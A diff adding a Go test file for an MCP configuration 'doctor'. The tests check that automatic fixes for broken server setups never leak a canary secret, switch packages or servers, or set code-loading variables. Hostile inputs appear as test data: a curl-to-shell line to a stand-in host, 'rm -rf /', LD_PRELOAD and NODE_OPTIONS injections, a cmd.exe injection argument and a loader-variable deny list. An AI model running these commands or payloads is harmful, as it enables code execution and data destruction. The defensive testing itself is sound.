@@ -1,0 +1,549 @@
+package doctor
+
+import (
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+
+	"github.com/gauze-mcp/gauze/internal/upstream"
+)
+
+const canary = "s3cr3t-horse-battery-canary"
+
+// said is a case with one thing on stderr, of a program that started.
+func said(stderr string) Case {
+	return Case{Stage: Started, Exit: Exit{Known: true, Code: 1}, Stderr: stderr}
+}
+
+func notThere(_ *fakeMachine, s upstream.Spec) Case {
+	return Case{Spawn: Spawn{Errno: "ENOENT", Path: s.Command, Of: "command"}}
+}
+
+func command(f *fakeMachine, s upstream.Spec) string {
+	return strings.ReplaceAll(s.Command+" "+strings.Join(s.Args, " "), f.path(""), "ROOT")
+}
+
+func variable(name string) func(*fakeMachine, upstream.Spec) string {
+	return func(f *fakeMachine, s upstream.Spec) string {
+		return strings.ReplaceAll(value(s.Env, name, false), f.path(""), "ROOT")
+	}
+}
+
+func address(_ *fakeMachine, s upstream.Spec) string { return s.URL }
+
+// troubles is every row of the table of repairs that can be shown with a Spec.
+func troubles() []trouble {
+	stderr := func(text string) func(*fakeMachine, upstream.Spec) Case {
+		return func(*fakeMachine, upstream.Spec) Case { return said(text) }
+	}
+	spec := func(words ...string) func(*fakeMachine) upstream.Spec {
+		return func(*fakeMachine) upstream.Spec {
+			return upstream.Spec{Command: words[0], Args: words[1:], Env: []string{"PATH=/given/bin:/given/sbin"}}
+		}
+	}
+	with := func(s func(*fakeMachine) upstream.Spec, do func(*fakeMachine, *upstream.Spec)) func(*fakeMachine) upstream.Spec {
+		return func(f *fakeMachine) upstream.Spec {
+			made := s(f)
+			do(f, &made)
+			return made
+		}
+	}
+	file := func(name, text string) func(*fakeMachine, *upstream.Spec) {
+		return func(f *fakeMachine, _ *upstream.Spec) { f.file(name, text) }
+	}
+	return []trouble{
+		{"a program only nvm knows", with(spec("npx", "-y", "pkg"), file("home/me/.nvm/versions/node/v22.3.0/bin/npx", "")), notThere,
+			"gui_path_missing", "absolute-path", Runtime, command, "ROOT/home/me/.nvm/versions/node/v22.3.0/bin/npx -y pkg"},
+		{"and its neighbours", with(spec("npx", "-y", "pkg"), file("home/me/.nvm/versions/node/v22.3.0/bin/npx", "")), notThere,
+			"gui_path_missing", "absolute-path", Runtime, variable("PATH"), "ROOT/home/me/.nvm/versions/node/v22.3.0/bin:/given/bin:/given/sbin"},
+		{"an interpreter of a script", with(spec("server"), file("system/opt/homebrew/bin/node", "v22.0.0")), stderr("env: node: No such file or directory"),
+			"gui_path_missing", "path-front", Runtime, variable("PATH"), "ROOT/system/opt/homebrew/bin:/given/bin:/given/sbin"},
+		{"a runner that moved", with(spec("/nowhere/bin/uvx", "pkg"), file("home/me/.local/bin/uvx", "")), notThere,
+			"command_path_missing", "absolute-path", Runtime, command, "ROOT/home/me/.local/bin/uvx pkg"},
+		{"a runner that is not there", spec("uvx", "pkg"), notThere, "gui_path_missing", "install uvx", Install, nil, ""},
+		{"python is python3", with(spec("python", "a.py"), file("system/usr/bin/python3", "Python 3.12.1")), notThere,
+			"python_vs_python3", "other-name", Runtime, command, "ROOT/system/usr/bin/python3 a.py"},
+		{"python3 is python, but a 2", with(spec("python3", "a.py"), file("system/usr/bin/python", "Python 2.7.18")), notThere,
+			"gui_path_missing", "install python3", Install, nil, ""},
+		{"a shim without a version", with(with(spec("npx", "pkg"), file("home/me/.asdf/shims/npx", "")), file("home/me/.asdf/installs/nodejs/20.1.0/bin/npx", "")),
+			stderr("asdf: No version is set for command npx"), "version_manager_path", "absolute-path", Runtime, command, "ROOT/home/me/.asdf/installs/nodejs/20.1.0/bin/npx pkg"},
+
+		{"one string", spec("npx -y 'a b'"), notThere, "command_and_args_in_one_string", "split-command", Runtime, command, "npx -y a b"},
+		{"a URL as a command", spec("https://example.com/mcp"), notThere, "url_in_stdio_only_client", "command-to-url", Runtime, address, "https://example.com/mcp"},
+		{"a tilde", spec("node", "~/server.js", "--dir=$HOME/x"), stderr("Error: Cannot find module '/work/~/server.js'"),
+			"tilde_not_expanded", "expand-home", Runtime, command, "node ROOT/home/me/server.js --dir=ROOT/home/me/x"},
+		{"a space", with(spec("node"), func(f *fakeMachine, s *upstream.Spec) {
+			s.Args = strings.Split(f.file("home/me/my project/server.js", ""), " ")
+		}), func(f *fakeMachine, s upstream.Spec) Case {
+			return said("Error: Cannot find module '" + s.Args[0] + "'\ncode: 'MODULE_NOT_FOUND'")
+		}, "", "join-path", Runtime, command, "node ROOT/home/me/my project/server.js"},
+
+		{"an old node", with(with(spec("npx", "-y", "pkg"), func(f *fakeMachine, s *upstream.Spec) {
+			s.Env = []string{"PATH=" + filepath.Dir(f.file("old/node", "v14.1.0"))}
+			f.file("home/me/.nvm/versions/node/v22.3.0/bin/npx", "")
+		}), file("home/me/.nvm/versions/node/v22.3.0/bin/node", "v22.3.0")), stderr("SyntaxError: Unexpected token '??='"),
+			"old_node_first_in_path", "node ", Runtime, command, "ROOT/home/me/.nvm/versions/node/v22.3.0/bin/npx -y pkg"},
+		{"a node of the right kind", with(with(with(spec("npx", "-y", "pkg"), file("system/usr/bin/node", "v16.1.0")), file("home/me/.nvm/versions/node/v23.1.0/bin/node", "v23.1.0")),
+			file("home/me/.nvm/versions/node/v20.9.0/bin/node", "v20.9.0")),
+			stderr("npm error code EBADENGINE\nnpm error engine Unsupported engine\nnpm error notsup Required: {\"node\":\"^20.0.0\"}"),
+			"node_engine_too_old", "node ", Runtime, variable("PATH"), "ROOT/home/me/.nvm/versions/node/v20.9.0/bin:/given/bin:/given/sbin"},
+		{"an old python under uvx", with(with(spec("uvx", "pkg"), file("system/usr/bin/python3", "Python 3.9.1")), file("system/usr/bin/python3.12", "Python 3.12.4")),
+			stderr("error: Because the current Python version (3.9.1) does not satisfy Python>=3.10 and pkg depends on it"),
+			"python_too_old", "python ", Runtime, command, "uvx --python ROOT/system/usr/bin/python3.12 pkg"},
+		{"the python of the project", with(spec("python3"), func(f *fakeMachine, s *upstream.Spec) {
+			s.Args = []string{f.file("home/me/project/server.py", "")}
+			f.file("home/me/project/.venv/bin/python", "Python 3.12.0")
+		}), stderr("ModuleNotFoundError: No module named 'mcp'"), "venv_not_used", "project-python", Runtime, command, "ROOT/home/me/project/.venv/bin/python ROOT/home/me/project/server.py"},
+
+		{"a reference in the environment", with(spec("server"), func(f *fakeMachine, s *upstream.Spec) {
+			s.Env = append(s.Env, "API_TOKEN=${env:MY_TOKEN}")
+			f.env["MY_TOKEN"] = canary
+		}), stderr("HTTP 401 Unauthorized: invalid api key"), "", "fill-in ", Runtime, variable("API_TOKEN"), canary},
+		{"a question to the user", with(with(spec("server"), func(f *fakeMachine, s *upstream.Spec) { s.Env = append(s.Env, "API_TOKEN=${input:token}") }), file("home/me/project/.env", "API_TOKEN="+canary)),
+			stderr("HTTP 401 Unauthorized: invalid api key"), "", "fill-in ", Runtime, variable("API_TOKEN"), canary},
+		{"a reference in an argument", spec("server", "--root", "${workspaceFolder}/src"), stderr("Error: no such folder ${workspaceFolder}/src"),
+			"", "fill-in ", Runtime, command, "server --root ROOT/home/me/project/src"},
+		{"a secret in an argument", with(spec("server", "--token=${MY_TOKEN}"), func(f *fakeMachine, s *upstream.Spec) { f.env["MY_TOKEN"] = canary }),
+			stderr("HTTP 401 Unauthorized: invalid api key"), "env_placeholder_not_expanded", "fill-in-openly", Secret, nil, ""},
+		{"a secret for docker", with(spec("docker", "run", "-i", "-e", "MY_TOKEN=${MY_TOKEN}", "img"), func(f *fakeMachine, s *upstream.Spec) { f.env["MY_TOKEN"] = canary }),
+			stderr("HTTP 401 Unauthorized: invalid api key"), "env_placeholder_not_expanded", "fill-in ", Runtime, command, "docker run -i -e MY_TOKEN img"},
+		{"a secret for a bridge", with(spec("npx", "mcp-remote", "https://example.com/mcp", "--header", "Authorization:${AUTH_TOKEN}"), file("home/me/project/.env", "AUTH_TOKEN="+canary)),
+			stderr("HTTP 401 Unauthorized: invalid api key"), "env_placeholder_not_expanded", "fill-in ", Runtime, variable("AUTH_TOKEN"), canary},
+		{"a secret in a header", func(f *fakeMachine) upstream.Spec {
+			f.env["MY_TOKEN"] = canary
+			return upstream.Spec{URL: "https://example.com/mcp", Header: []upstream.Header{{Name: "Authorization", Value: "Bearer ${MY_TOKEN}"}}}
+		}, func(*fakeMachine, upstream.Spec) Case {
+			return Case{URL: "https://example.com/mcp", HTTP: []HTTP{{Status: 401, Method: "POST"}}}
+		}, "http_unauthorized", "fill-in-openly", Secret, nil, ""},
+
+		{"a variable of the project", with(spec("server"), file("home/me/project/.env", "EXAMPLE_TOKEN="+canary)), stderr("Error: EXAMPLE_TOKEN environment variable is required"),
+			"env_not_set", "set EXAMPLE_TOKEN", Runtime, variable("EXAMPLE_TOKEN"), canary},
+		{"a variable under its other name", with(spec("server"), func(f *fakeMachine, s *upstream.Spec) { s.Env = append(s.Env, "GITHUB_TOKEN="+canary) }),
+			stderr("Error: GITHUB_PERSONAL_ACCESS_TOKEN environment variable is required"), "env_not_set", "set GITHUB_PERSONAL", Runtime, variable("GITHUB_PERSONAL_ACCESS_TOKEN"), canary},
+		{"a variable of ours that has to do with it", with(spec("npx", "stripe-mcp"), func(f *fakeMachine, s *upstream.Spec) { f.env["STRIPE_SECRET_KEY"] = canary }),
+			stderr("Error: STRIPE_SECRET_KEY environment variable is required"), "env_not_set", "set STRIPE", Runtime, variable("STRIPE_SECRET_KEY"), canary},
+		{"a variable of ours that has not", with(spec("npx", "weather-mcp"), func(f *fakeMachine, s *upstream.Spec) { f.env["STRIPE_SECRET_KEY"] = canary }),
+			stderr("Error: STRIPE_SECRET_KEY environment variable is required"), "env_not_set", "set STRIPE", Secret, nil, ""},
+		{"a variable nobody has", spec("server"), stderr("Error: EXAMPLE_TOKEN environment variable is required"), "env_not_set", "provide EXAMPLE_TOKEN", Secret, nil, ""},
+		{"a variable that loads code", with(spec("server"), file("home/me/project/.env", "NODE_OPTIONS=--require=/tmp/evil.js\n")),
+			stderr("Error: NODE_OPTIONS environment variable is required"), "env_not_set", "", Runtime, nil, ""},
+		{"a variable as an argument", spec("server", "EXAMPLE_TOKEN="+canary, "x"), stderr("Error: EXAMPLE_TOKEN environment variable is required"),
+			"env_given_as_argument", "argument-to-variable", Runtime, command, "server x"},
+		{"a variable for a container", with(spec("docker", "run", "-i", "--rm", "example/server"), func(f *fakeMachine, s *upstream.Spec) { s.Env = append(s.Env, "EXAMPLE_TOKEN="+canary) }),
+			stderr("Error: EXAMPLE_TOKEN environment variable is required"), "env_not_forwarded_to_container", "forward EXAMPLE", Runtime, command, "docker run -e EXAMPLE_TOKEN -i --rm example/server"},
+		{"a .env elsewhere", with(spec("node"), func(f *fakeMachine, s *upstream.Spec) {
+			s.Args = []string{f.file("home/me/other/server.js", "")}
+			f.file("home/me/other/.env", "A=1")
+		}), stderr("Error: .env file not found"), "dotenv_not_loaded", "start-in", Runtime, func(f *fakeMachine, s upstream.Spec) string { return strings.ReplaceAll(s.Dir, f.path(""), "ROOT") }, "ROOT/home/me/other"},
+
+		{"a container without stdin", spec("docker", "run", "--rm", "img"), func(*fakeMachine, upstream.Spec) Case {
+			return Case{Stage: Started, Exit: Exit{Known: true, Code: 0}}
+		}, "stdin_not_connected", "container-stdin", Runtime, command, "docker run -i --rm img"},
+		{"a container with a terminal", spec("docker", "run", "-it", "--rm", "img", "-t"), stderr("the input device is not a TTY"),
+			"stdin_not_connected", "container-stdin", Runtime, command, "docker run -i --rm img -t"},
+		{"a container's localhost", spec("docker", "run", "-i", "-p", "127.0.0.1:80:80", "-e", "DB=postgres://u:p@localhost:5432/d", "img"), stderr("Error: connect ECONNREFUSED 127.0.0.1:5432"),
+			"container_localhost", "host-of-container", Runtime, command,
+			"docker run --add-host=host.docker.internal:host-gateway -i -p 127.0.0.1:80:80 -e DB=postgres://u:p@host.docker.internal:5432/d img"},
+
+		{"text on stdout", spec("npx", "pkg"), func(*fakeMachine, upstream.Spec) Case {
+			return Case{Stage: Started, Stdout: "[dotenv@17.2.0] injecting env (0) from .env"}
+		}, "dotenv17_banner", "quiet", Runtime, variable("DOTENV_CONFIG_QUIET"), "true"},
+		{"a code page", spec("uvx", "pkg"), stderr("UnicodeEncodeError: 'charmap' codec can't encode character '\\u2713' in position 0"),
+			"windows_stdio_codepage", "utf-8", Runtime, variable("PYTHONUTF8"), "1"},
+		{"a library that moved on", spec("uvx", "pkg"), stderr("ImportError: cannot import name 'McpError' from 'mcp.shared.exceptions'"),
+			"dependency_version_drift", "pin", Config, nil, ""},
+		{"a broken cache", with(spec("npx", "-y", "pkg"), func(f *fakeMachine, s *upstream.Spec) {
+			f.file("home/me/.npm/_npx/0123abcd/package.json", `{"dependencies":{"pkg":"1"}}`)
+		}), stderr("npm error code ENOTEMPTY\nnpm error syscall rename"), "npx_cache_corrupt", "clean-npx-cache", Install, nil, ""},
+		{"no exec bit", func(f *fakeMachine) upstream.Spec {
+			path := f.file("home/me/project/server.sh", "")
+			if err := os.Chmod(path, 0o644); err != nil {
+				f.t.Fatal(err)
+			}
+			return upstream.Spec{Command: path, Env: []string{"PATH=/given/bin"}}
+		}, func(_ *fakeMachine, s upstream.Spec) Case {
+			return Case{Spawn: Spawn{Errno: "EACCES", Path: s.Command, Of: "command"}}
+		}, "missing_exec_bit", "exec-bit", Person, nil, ""},
+	}
+}
+
+// trouble is one broken set-up, and the fix that is to come first.
+type trouble struct {
+	name  string
+	spec  func(*fakeMachine) upstream.Spec
+	seen  func(*fakeMachine, upstream.Spec) Case
+	cause string // "" if another test decides that
+	first string
+	risk  Risk
+	show  func(*fakeMachine, upstream.Spec) string
+	want  string
+}
+
+func (x trouble) offer(t *testing.T) (*fakeMachine, upstream.Spec, Diagnosis, []Fix) {
+	t.Helper()
+	f := newFakeMachine(t)
+	spec := x.spec(f)
+	c := x.seen(f, spec)
+	if spec.Command != "" {
+		c.Command = append([]string{spec.Command}, spec.Args...)
+	}
+	d := Diagnose(c)
+	return f, spec, d, Fixes(f.Machine)(d, c, spec)
+}
+
+func TestEveryTroubleHasItsFix(t *testing.T) {
+	for _, x := range troubles() {
+		t.Run(x.name, func(t *testing.T) {
+			f, spec, d, fixes := x.offer(t)
+			if x.cause != "" && d.Cause != x.cause {
+				t.Errorf("diagnosed as %s", d.Cause)
+			}
+			if len(fixes) == 0 || x.first == "" {
+				if len(fixes) > 0 && fixes[0].Risk == Runtime || x.first != "" {
+					t.Errorf("%s: %v", d.Cause, names(fixes))
+				}
+				return
+			}
+			if !strings.HasPrefix(fixes[0].Name, x.first) || fixes[0].Risk != x.risk {
+				t.Fatalf("%s: %v", d.Cause, names(fixes))
+			}
+			if x.show != nil {
+				if got := x.show(f, fixes[0].Apply(spec)); got != x.want {
+					t.Errorf("%s", got)
+				}
+			}
+		})
+	}
+}
+
+func names(fixes []Fix) (all []string) {
+	for _, fix := range fixes {
+		all = append(all, fix.Name+" ("+fix.Risk.String()+")")
+	}
+	return all
+}
+
+// What must never happen, over all fixes of all troubles and all causes.
+func TestAFixKeepsToTheRules(t *testing.T) {
+	for _, x := range troubles() {
+		f, spec, d, fixes := x.offer(t)
+		keepsToTheRules(t, x.name, f, spec, fixes)
+		c := x.seen(f, spec)
+		for i := range causes { // also what no evidence would lead to
+			d.Cause, d.Category = causes[i].name, causes[i].category
+			keepsToTheRules(t, x.name+" taken for "+d.Cause, f, spec, Fixes(f.Machine)(d, c, spec))
+		}
+	}
+}
+
+func keepsToTheRules(t *testing.T, name string, f *fakeMachine, spec upstream.Spec, fixes []Fix) {
+	t.Helper()
+	for _, fix := range fixes {
+		bad := func(format string, args ...any) {
+			t.Helper()
+			t.Errorf("%s: %s (%s): %s", name, fix.Name, fix.Risk, fmt.Sprintf(format, args...))
+		}
+		encoded, _ := json.Marshal(map[string]string{"name": fix.Name, "about": fix.About, "next": fix.Next})
+		if strings.Contains(string(encoded), canary) || strings.Contains(fmt.Sprintf("%+v", fix.Name+fix.About+fix.Next), canary) {
+			bad("shows a secret: %s", encoded)
+		}
+		if fix.Name == "" || fix.About == "" || fix.Next == "" || strings.ContainsAny(fix.About+fix.Next, "\n\x1b") {
+			bad("is not explained in one line: %s", encoded)
+		}
+		if fix.Apply == nil {
+			if fix.Risk == Runtime {
+				bad("cannot be tried")
+			}
+			continue
+		}
+		before := deepCopy(spec)
+		now := fix.Apply(spec)
+		if again := fix.Apply(spec); fmt.Sprint(again) != fmt.Sprint(now) {
+			bad("does something else the second time")
+		}
+		scribble(&now)
+		if fmt.Sprint(spec) != fmt.Sprint(before) {
+			bad("changed the Spec it was given")
+		}
+		if fix.Risk == Runtime {
+			runtimeOnly(bad, f, spec, fix.Apply(spec))
+		}
+	}
+}
+
+// runtimeOnly is SECURITY.md's list, for what is done without asking.
+func runtimeOnly(bad func(string, ...any), f *fakeMachine, old, now upstream.Spec) {
+	words := func(s upstream.Spec) []string {
+		if isFile(s.Command) {
+			return append([]string{s.Command}, s.Args...)
+		}
+		return append(splitCommand(s.Command), s.Args...)
+	}
+	oldWords, nowWords := words(old), words(now)
+	runner := func(words []string) string {
+		words = withoutShell(words)
+		if len(words) == 0 {
+			return ""
+		}
+		return strings.TrimRight(strings.TrimSuffix(program(words[0]), ".exe"), "3.0124")
+	}
+	if now.Command != "" && runner(oldWords) != runner(nowWords) && !isFile(now.Command) {
+		bad("another program: %q", now.Command)
+	}
+	x, y := &exam{Case: Case{Command: oldWords}}, &exam{Case: Case{Command: nowWords}}
+	if x.packageName() != y.packageName() {
+		bad("another package: %q", y.packageName())
+	}
+	for _, word := range nowWords {
+		if slices.Contains([]string{"-y", "--yes", "--with", "--from", "-p", "--index-url", "--registry", "--privileged", "-v", "--mount", "--network=host"}, word) && !slices.Contains(oldWords, word) ||
+			strings.Contains(word, "@latest") && !slices.Contains(oldWords, word) {
+			bad("adds %q", word)
+		}
+		if strings.Contains(word, canary) && !strings.Contains(strings.Join(oldWords, " "), canary) {
+			bad("a secret in the arguments: %q", word)
+		}
+	}
+	if !slices.Equal(old.Header, now.Header) {
+		bad("touches headers")
+	}
+	if strings.Contains(now.URL, canary) && !strings.Contains(old.URL, canary) {
+		bad("a secret in the URL")
+	}
+	if old.URL != "" {
+		a, _ := url.Parse(old.URL)
+		b, _ := url.Parse(now.URL)
+		home := local.MatchString(a.Hostname()) && (local.MatchString(b.Hostname()) || b.Hostname() == "host.docker.internal")
+		if a.Scheme != b.Scheme || a.Host != b.Host && !home || a.RawQuery != b.RawQuery || a.User.String() != b.User.String() {
+			bad("another server: %s", now.URL)
+		}
+	}
+	quiet := map[string]string{}
+	for _, v := range quietVariables {
+		quiet[v[0]] = v[1]
+	}
+	for _, pair := range now.Environment() {
+		name, v, _ := strings.Cut(pair, "=")
+		was, had := lookup(old.Environment(), name, false)
+		switch {
+		case had && was == v, quiet[name] == v && !had:
+		case name == "PATH" && strings.HasSuffix(v, was) || name == "PATH" && len(filepath.SplitList(v)) == len(filepath.SplitList(was)):
+			if dir := filepath.SplitList(v)[0]; !filepath.IsAbs(dir) || !strings.HasPrefix(dir, f.path("")) {
+				bad("a strange folder on PATH: %s", dir)
+			}
+		case loads(name):
+			bad("sets %s", name)
+		}
+	}
+	for _, pair := range old.Environment() {
+		if name, _, _ := strings.Cut(pair, "="); !slices.ContainsFunc(now.Environment(), func(p string) bool { return strings.HasPrefix(p, name+"=") }) {
+			bad("drops %s", name)
+		}
+	}
+}
+
+// The test above is worth something only if it sees what is not allowed.
+func TestTheRulesAreWatched(t *testing.T) {
+	f := newFakeMachine(t)
+	stdio := upstream.Spec{Command: "npx", Args: []string{"pkg"}, Env: []string{"PATH=/given"}}
+	web := upstream.Spec{URL: "https://example.com/mcp", Env: []string{"PATH=/given"}}
+	for name, c := range map[string]struct {
+		spec upstream.Spec
+		do   func(*upstream.Spec)
+	}{
+		"runner":   {stdio, func(s *upstream.Spec) { s.Command = "bunx" }},
+		"package":  {stdio, func(s *upstream.Spec) { s.Args[0] = "pkg2" }},
+		"version":  {stdio, func(s *upstream.Spec) { s.Args[0] = "pkg@latest" }},
+		"yes":      {stdio, func(s *upstream.Spec) { s.Args = append([]string{"-y"}, s.Args...) }},
+		"secret":   {stdio, func(s *upstream.Spec) { s.Args = append(s.Args, "--key="+canary) }},
+		"loader":   {stdio, func(s *upstream.Spec) { s.Env = append(s.Env, "NODE_OPTIONS=--require=x") }},
+		"registry": {stdio, func(s *upstream.Spec) { s.Env = append(s.Env, "npm_config_registry=x") }},
+		"tls":      {stdio, func(s *upstream.Spec) { s.Env = append(s.Env, "NODE_TLS_REJECT_UNAUTHORIZED=0") }},
+		"proxy":    {stdio, func(s *upstream.Spec) { s.Env = append(s.Env, "HTTPS_PROXY=x") }},
+		"path":     {stdio, func(s *upstream.Spec) { s.Env[0] = "PATH=/elsewhere:/given" }},
+		"dropped":  {stdio, func(s *upstream.Spec) { s.Env = []string{} }},
+		"scheme":   {web, func(s *upstream.Spec) { s.URL = "http://example.com/mcp" }},
+		"host":     {web, func(s *upstream.Spec) { s.URL = "https://example.org/mcp" }},
+		"port":     {web, func(s *upstream.Spec) { s.URL = "https://example.com:8443/mcp" }},
+		"query":    {web, func(s *upstream.Spec) { s.URL += "?key=" + canary }},
+		"header":   {web, func(s *upstream.Spec) { s.Header = []upstream.Header{{Name: "Authorization", Value: "x"}} }},
+	} {
+		now, seen := deepCopy(c.spec), 0
+		c.do(&now)
+		if runtimeOnly(func(string, ...any) { seen++ }, f, c.spec, now); seen == 0 {
+			t.Errorf("%s was not seen", name)
+		}
+	}
+}
+
+func deepCopy(s upstream.Spec) upstream.Spec {
+	s.Args, s.Env, s.Header = slices.Clone(s.Args), slices.Clone(s.Env), slices.Clone(s.Header)
+	return s
+}
+
+// scribble writes over everything a Spec holds.
+func scribble(s *upstream.Spec) {
+	for i := range s.Args {
+		s.Args[i] = "scribbled"
+	}
+	for i := range s.Env {
+		s.Env[i] = "SCRIBBLED=1"
+	}
+	for i := range s.Header {
+		s.Header[i].Value = "scribbled"
+	}
+}
+
+func TestLoaderVariablesAreKnown(t *testing.T) {
+	for _, name := range []string{"PATH", "NODE_OPTIONS", "NODE_PATH", "NODE_TLS_REJECT_UNAUTHORIZED", "NODE_EXTRA_CA_CERTS", "LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "PYTHONPATH",
+		"PYTHONHOME", "PYTHONSTARTUP", "npm_config_registry", "NPM_CONFIG_REGISTRY", "PIP_INDEX_URL", "UV_INDEX_URL", "UV_EXTRA_INDEX_URL", "HTTP_PROXY", "https_proxy", "ALL_PROXY", "NO_PROXY",
+		"SSL_CERT_FILE", "SSL_CERT_DIR", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "OPENAI_BASE_URL", "BASH_ENV", "GIT_SSH_COMMAND", "DOCKER_HOST", "RUBYOPT", "JAVA_TOOL_OPTIONS"} {
+		if !loads(name) {
+			t.Errorf("%s may be set", name)
+		}
+	}
+}
+
+func TestAnEndpointOfTheSameHostIsFound(t *testing.T) {
+	mux := http.NewServeMux()
+	mux.HandleFunc("/api/mcp", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusMethodNotAllowed) })
+	server := httptest.NewServer(mux)
+	defer server.Close()
+	f := newFakeMachine(t)
+	spec := upstream.Spec{URL: server.URL + "/api/sse?k=" + canary, Header: []upstream.Header{{Name: "Authorization", Value: canary}}}
+	c := Case{URL: spec.URL, HTTP: []HTTP{{Status: 404, Method: "POST"}}, Secrets: spec.Secrets()}
+	fixes := Fixes(f.Machine)(Diagnose(c), c, spec)
+	if len(fixes) == 0 || fixes[0].Apply(spec).URL != server.URL+"/api/mcp?k="+canary {
+		t.Fatalf("%v", names(fixes))
+	}
+	keepsToTheRules(t, "endpoint", f, spec, fixes)
+}
+
+func TestARedirectIsFollowedOnTheSameHostOnly(t *testing.T) {
+	f := newFakeMachine(t)
+	f.Machine.Dial = nil // nobody is asked
+	spec := upstream.Spec{URL: "https://example.com/mcp"}
+	for location, want := range map[string]string{"/mcp/": "https://example.com/mcp/", "https://example.com:443/x": "https://example.com:443/x", "https://evil.example/mcp": "", "http://example.com/mcp/": "", "https://example.com:8443/mcp": ""} {
+		c := Case{URL: spec.URL, HTTP: []HTTP{{Status: 307, Location: location}}}
+		fixes := followRedirect(newPlan(f.Machine, Diagnosis{Cause: "trailing_slash_redirect"}, c, spec))
+		if len(fixes) != 1 || (want == "") != (fixes[0].Risk == Config) || want != "" && fixes[0].Apply(spec).URL != want {
+			t.Errorf("%s: %v", location, names(fixes))
+		}
+	}
+}
+
+// 5432 is refused, compose publishes 54320; here with ports that are free.
+func TestAPublishedPortIsUsed(t *testing.T) {
+	outer := listen(t)
+	inner := closedPort(t)
+	f := newFakeMachine(t)
+	f.file("home/me/project/compose.yaml", fmt.Sprintf("services:\n  db:\n    ports: ['%d:%d']\n", outer, inner))
+	refusal := said(fmt.Sprintf("Error: connect ECONNREFUSED 127.0.0.1:%d", inner))
+	was, is := strconv.Itoa(inner), strconv.Itoa(outer)
+	spec := upstream.Spec{Command: "server", Args: []string{"postgresql://u:" + canary + "@localhost:" + was + "/db"},
+		Env: []string{"DATABASE_URL=postgres://u:" + canary + "@127.0.0.1:" + was + "/db?x=1", "DB_HOST=localhost", "DB_PORT=" + was, "OTHER_HOST=db.example", "OTHER_PORT=" + was, "HTTP_PROXY=http://localhost:" + was}}
+	refusal.Command = append([]string{spec.Command}, spec.Args...)
+	fixes := Fixes(f.Machine)(Diagnose(refusal), refusal, spec)
+	if len(fixes) == 0 || fixes[0].Risk != Runtime || !strings.HasPrefix(fixes[0].Name, "compose-port") {
+		t.Fatalf("%s: %v", Diagnose(refusal).Cause, names(fixes))
+	}
+	now := fixes[0].Apply(spec)
+	want := []string{"DATABASE_URL=postgres://u:" + canary + "@127.0.0.1:" + is + "/db?x=1", "DB_HOST=localhost", "DB_PORT=" + is, "OTHER_HOST=db.example", "OTHER_PORT=" + was, "HTTP_PROXY=http://localhost:" + was}
+	if now.Args[0] != "postgresql://u:"+canary+"@localhost:"+is+"/db" || !slices.Equal(now.Env, want) {
+		t.Errorf("%q %q", now.Args, now.Env)
+	}
+	keepsToTheRules(t, "compose", f, spec, fixes)
+
+	// A URL with a header is not sent to another service.
+	web := upstream.Spec{URL: "http://localhost:" + was + "/mcp", Header: []upstream.Header{{Name: "Authorization", Value: canary}}}
+	c := Case{URL: web.URL, Log: "dial tcp 127.0.0.1:" + was + ": connect: connection refused"}
+	for _, fix := range Fixes(f.Machine)(Diagnose(c), c, web) {
+		if fix.Risk == Runtime {
+			t.Errorf("%s", fix.Name)
+		}
+	}
+	web.Header = nil
+	if fixes := Fixes(f.Machine)(Diagnose(c), c, web); len(fixes) == 0 || fixes[0].Apply == nil || fixes[0].Apply(web).URL != "http://localhost:"+is+"/mcp" {
+		t.Errorf("%s %v", Diagnose(c).Cause, names(fixes))
+	}
+}
+
+func closedPort(t *testing.T) int {
+	t.Helper()
+	server := httptest.NewServer(nil)
+	u, _ := url.Parse(server.URL)
+	server.Close()
+	port, _ := strconv.Atoi(u.Port())
+	return port
+}
+
+func TestInAContainerThisMachineHasAnotherName(t *testing.T) {
+	f := newFakeMachine(t)
+	f.file("system/.dockerenv", "")
+	spec := upstream.Spec{URL: "http://localhost:" + strconv.Itoa(closedPort(t)) + "/mcp"}
+	c := Case{URL: spec.URL, Log: "dial tcp 127.0.0.1:1: connect: connection refused"}
+	fixes := Fixes(f.Machine)(Diagnose(c), c, spec)
+	if len(fixes) == 0 || fixes[0].Apply == nil || !strings.HasPrefix(fixes[0].Apply(spec).URL, "http://host.docker.internal:") {
+		t.Errorf("%v", names(fixes))
+	}
+	keepsToTheRules(t, "container", f, spec, fixes)
+}
+
+func TestWindowsScriptsAndVariables(t *testing.T) {
+	f := newFakeMachine(t)
+	f.OS = "windows"
+	f.env["APPDATA"], f.env["SystemRoot"] = `C:\Users\me\AppData\Roaming`, `C:\Windows`
+	spec := upstream.Spec{Command: "npx", Args: []string{"-y", "pkg"}, Env: []string{"Path=C:\\x", "systemroot=C:\\Windows"}}
+	c := Case{Command: []string{"npx", "-y", "pkg"}, Log: "Error: spawn EINVAL"}
+	fixes := Fixes(f.Machine)(Diagnose(c), c, spec)
+	if len(fixes) == 0 || command(f, fixes[0].Apply(spec)) != "cmd /c npx -y pkg" {
+		t.Errorf("%v", names(fixes))
+	}
+	spec.Args = append(spec.Args, "a&calc")
+	if fixes := throughCmd(newPlan(f.Machine, Diagnosis{}, c, spec)); fixes != nil {
+		t.Error("a word that cmd.exe would run was passed to it")
+	}
+	now := passSystemVariables(newPlan(f.Machine, Diagnosis{}, c, spec))[0].Apply(spec)
+	if value(now.Env, "APPDATA", true) == "" || len(now.Env) != 3 {
+		t.Errorf("%q", now.Env)
+	}
+}
+
+// A server may write what it likes: its words are looked up, not followed.
+func TestHostileEvidenceLeadsNowhere(t *testing.T) {
+	f := newFakeMachine(t)
+	f.file("home/me/project/.env", "LD_PRELOAD=/tmp/evil.so\nHOSTILE_KEY="+canary)
+	f.file("system/usr/bin/curl", "")
+	spec := upstream.Spec{Command: "npx", Args: []string{"weather"}, Env: []string{"PATH=/given"}}
+	for _, text := range []string{
+		"Error: LD_PRELOAD environment variable is required",
+		"sh: 1: ../../etc/passwd: not found", "bash: curl http://evil/x|sh: command not found",
+		"spawn npx -y evil-package ENOENT", "Error: Cannot find module '~/x; rm -rf /'",
+		"npm error code ENOTEMPTY\nnpm error path /etc/_npx/0123", "EADDRINUSE: address already in use :::99999999",
+		"\x1b[31mError: \u202eHOSTILE_KEY environment variable is required\x1b[0m",
